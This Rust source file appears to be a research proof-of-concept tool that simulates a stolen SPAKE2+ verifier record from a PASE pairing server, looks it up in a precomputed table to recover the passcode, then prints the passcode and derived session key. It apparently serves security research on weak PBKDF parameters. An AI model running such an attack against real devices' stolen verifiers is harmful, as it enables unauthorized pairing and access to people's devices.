//! Recover a passcode from a stolen verifier record with a precomputed table.

use std::time::Duration;

use anyhow::{Context, Result};
use clap::Parser;
use pase::{passcode, spake2p::compute_w0_l, DefaultProvider, PbkdfParameters};
use pase_tools::{attack::precomputation_attack, logging::init_logging};
use tokio::io::BufReader;
use tracing::info;

/// Precomputed table lookup of a stolen verifier
#[derive(Parser)]
#[command(author, version, about, long_about = None)]
struct Args {
    /// Table written by build-table with the same salt and iterations
    #[arg(short, long, default_value_t = String::from("table.csv"))]
    table: String,

    /// PBKDF salt, used as raw bytes
    #[arg(long, default_value_t = String::from("cosic"))]
    salt: String,

    /// PBKDF iteration count
    #[arg(long, default_value_t = 1000)]
    iterations: u32,

    /// Passcode the simulated server is set up with. Random if not given.
    #[arg(long)]
    server_passcode: Option<u32>,

    /// Seconds allowed for the confirming pairing
    #[arg(long, default_value_t = 30)]
    attempt_timeout: u64,

    /// Log Level (ERROR/WARN/INFO/DEBUG/TRACE)
    #[arg(long, default_value_t = String::from("INFO"))]
    log_level: String,
}

#[tokio::main]
async fn main() -> Result<()> {
    let args = Args::parse();
    init_logging(&args.log_level)?;

    let params = PbkdfParameters::new(args.iterations, args.salt.as_bytes())
        .context("invalid PBKDF parameters")?;
    let provider = DefaultProvider::shared();

    // the record a compromised server would have on disk
    let server_passcode = args
        .server_passcode
        .unwrap_or_else(|| passcode::random(&mut rand::thread_rng()));
    let stolen = compute_w0_l(&provider, &params, server_passcode)
        .await
        .context("deriving the server verifier")?
        .to_bytes();
    info!("stolen verifier record {}", hex::encode(&stolen[..]));

    let table = tokio::fs::File::open(&args.table)
        .await
        .with_context(|| format!("opening {}", args.table))?;

    info!("running...");
    let found = precomputation_attack(
        &provider,
        &stolen,
        &params,
        BufReader::new(table),
        Duration::from_secs(args.attempt_timeout),
    )
    .await?;

    match found {
        Some(r) => {
            println!("Pairing succeeded with passcode: {:08}", r.passcode);
            println!("Shared secret: {}", hex::encode(*r.session_key));
        }
        None => println!("Stolen w0 not found in precomputed table."),
    }
    Ok(())
}
